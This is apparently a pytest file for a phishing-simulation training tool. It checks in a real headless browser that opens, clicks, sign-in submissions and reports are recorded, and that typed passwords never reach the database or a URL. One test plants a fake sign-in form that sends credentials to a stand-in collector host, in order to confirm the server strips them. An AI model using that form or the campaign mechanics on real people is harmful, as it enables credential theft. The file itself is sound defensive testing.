"""A real browser (Debian's chromium via Playwright) shows a received message (the pixel loads) and
follows it: click, landing page, sign-in form submitted with a password, report. The password
never leaves the browser and is nowhere in the database; the events count as a person's."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from phish_world import PASSWORD_TYPED, Mailbox, make_campaign
from server_world import CHROMIUM, CHROMIUM_ARGS, Live, build_world, serve_in_thread
from sqlalchemy import select, update

from bastion.phish.report import report_html
from bastion.phish.results import campaign_results
from bastion.phish.sender import SmtpSettings, send_campaign
from bastion.phish.service import Hit, find_campaign, record
from bastion.store.db import Store
from bastion.store.phish import PhishCampaign, PhishEvent, PhishRecipient

DESKTOP = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)


@pytest.fixture
def live(store: Store) -> Iterator[Live]:
    """The server on a loopback port over the phishing store."""
    yield from serve_in_thread(build_world(store))


@pytest.fixture
def browser() -> Iterator[Any]:
    """Headless Debian chromium."""
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} not installed (scripts/install-browser.sh installs it)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield launched
        launched.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    """A page with a desktop browser's user agent."""
    context = browser.new_context(user_agent=DESKTOP)
    yield context.new_page()
    context.close()


@pytest.fixture
def scriptless_page(browser: Any) -> Iterator[Any]:
    """A page with scripts off (a person who disabled them, or a strict mail client's viewer)."""
    context = browser.new_context(user_agent=DESKTOP, java_script_enabled=False)
    yield context.new_page()
    context.close()


def test_click_submit_report_in_a_real_browser(store: Store, mailbox: Mailbox, live: Live, page: Any) -> None:
    campaign_id = make_campaign(store, base_url=live.url)
    sent = send_campaign(store, campaign_id, SmtpSettings(port=mailbox.port, rate_per_s=0), {"example.com"})
    assert sent.outcomes == {"sent": 4}
    with store.write() as session:  # the person reads the message ten minutes after delivery
        for recipient in session.scalars(select(PhishRecipient)):
            assert recipient.sent_at is not None
            session.execute(
                update(PhishRecipient)
                .where(PhishRecipient.id == recipient.id)
                .values(sent_at=recipient.sent_at - timedelta(minutes=10))
            )
    message = next(m for m in mailbox.messages if "ana.diaz" in str(m["To"]))
    html = message.get_body(("html",)).get_content()
    report_url = re.search(r'href="([^"]+/p/r/[^"]+)"', html)
    assert report_url is not None
    posted: list[str] = []
    page.on(
        "request",
        lambda request: posted.append(request.post_data or "") if request.method == "POST" else None,
    )
    with page.expect_response(lambda response: "/p/o/" in response.url):
        page.set_content(html)  # the message as a mail client shows it: the pixel loads
    with page.expect_response(lambda response: "/p/b/" in response.url):
        page.click("a[href*='/p/c/']")
    assert page.title() == "Sign in"
    page.fill("#username", "ana.diaz@example.com")
    page.fill("#password", PASSWORD_TYPED)
    page.click("#go")
    page.wait_for_url("**/p/done")
    assert "This was a phishing exercise" in page.content()
    page.wait_for_timeout(2100)  # a person reads before reporting; not an assertion on time
    page.goto(report_url.group(1))
    assert "Thank you for reporting" in page.content()

    assert posted and all(PASSWORD_TYPED not in body and "ana.diaz" not in body for body in posted)
    with store.read() as session:
        events = [
            (e.kind, e.cookie, e.fields) for e in session.scalars(select(PhishEvent).order_by(PhishEvent.id))
        ]
        results = campaign_results(session, find_campaign(session, str(campaign_id)))
    assert events == [
        ("open", False, []),
        ("click", False, []),
        ("beacon", True, []),
        ("submit", True, ["password", "username"]),
        ("report", True, []),
    ]
    assert [c.reasons for c in results.classified] == [[], [], [], [], []]
    total = results.total
    assert (total.opened, total.clicked, total.submitted, total.reported, total.automated_events) == (
        1,
        1,
        1,
        1,
        0,
    )
    database = Path(str(store.engine.url.database))
    stored = b"".join(p.read_bytes() for p in database.parent.glob(database.name + "*"))
    assert PASSWORD_TYPED.encode() not in stored


def test_anonymised_report_is_self_contained_and_prints_to_pdf(
    store: Store, mailbox: Mailbox, page: Any
) -> None:
    campaign_id = make_campaign(store)
    sent = send_campaign(store, campaign_id, SmtpSettings(port=mailbox.port, rate_per_s=0), {"example.com"})
    assert sent.outcomes == {"sent": 4}
    with store.write() as session:
        tokens = [r.token_id for r in session.scalars(select(PhishRecipient).order_by(PhishRecipient.id))]
        later = datetime.now(UTC) + timedelta(minutes=5)
        assert record(session, tokens[0], Hit(kind="click", user_agent=DESKTOP), now=later)
        assert record(session, tokens[1], Hit(kind="report", user_agent=DESKTOP, via="link"), now=later)
    with store.read() as session:
        html = report_html(session, find_campaign(session, str(campaign_id)), named=False, min_group=2)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.set_content(html)  # about:blank: any stylesheet, font, image or script would be a request
    page.emulate_media(media="print")
    assert page.evaluate("document.querySelectorAll('table').length") > 0
    pdf = page.pdf(format="A4")
    assert requests == [] and pdf.startswith(b"%PDF-") and pdf.count(b"/Type /Page") >= 1
    text = page.inner_text("body")
    assert "q1-invoice" in text and "Ana" not in text and "ana.diaz" not in text


def test_scripts_off_and_a_get_form_still_never_put_the_password_in_a_url_or_the_database(
    store: Store, mailbox: Mailbox, live: Live, scriptless_page: Any
) -> None:
    campaign_id = make_campaign(store, base_url=live.url)
    with store.write() as session:  # an author's form that would send the password in the URL
        campaign = session.get(PhishCampaign, campaign_id)
        assert campaign is not None
        campaign.landing_html = (
            "<h1>Sign in</h1><form action='https://collector.example/' method='get'>"
            "<input name='username' id='username'><input name='password' id='password' type='password'>"
            "<button id='go' formmethod='get'>Sign in</button></form>"
        )
    sent = send_campaign(store, campaign_id, SmtpSettings(port=mailbox.port, rate_per_s=0), {"example.com"})
    assert sent.outcomes == {"sent": 4}
    message = next(m for m in mailbox.messages if "ana.diaz" in str(m["To"]))
    click = re.search(r"(http://\S+/p/c/\S+)", message.get_body(("plain",)).get_content())
    assert click is not None
    requests: list[tuple[str, str, bytes]] = []
    scriptless_page.on("request", lambda r: requests.append((r.method, r.url, r.post_data_buffer or b"")))
    scriptless_page.goto(click.group(1))
    scriptless_page.fill("#username", "ana.diaz@example.com")
    scriptless_page.fill("#password", PASSWORD_TYPED)
    scriptless_page.click("#go")
    scriptless_page.wait_for_url("**/p/done")
    submits = [(method, url, body) for method, url, body in requests if "/p/s/" in url]
    assert [(method, url.split("/p/s/")[0]) for method, url, _ in submits] == [("POST", live.url)]
    assert all("collector.example" not in url and "password=" not in url for _, url, _ in requests)
    assert b"password=" in submits[0][2]  # no script: the browser sent the value, the server dropped it
    with store.read() as session:
        events = list(session.scalars(select(PhishEvent).where(PhishEvent.kind == "submit")))
    assert [(e.fields, e.cookie) for e in events] == [(["password", "username"], True)]
    database = Path(str(store.engine.url.database))
    stored = b"".join(p.read_bytes() for p in database.parent.glob(database.name + "*"))
    assert PASSWORD_TYPED.encode() not in stored
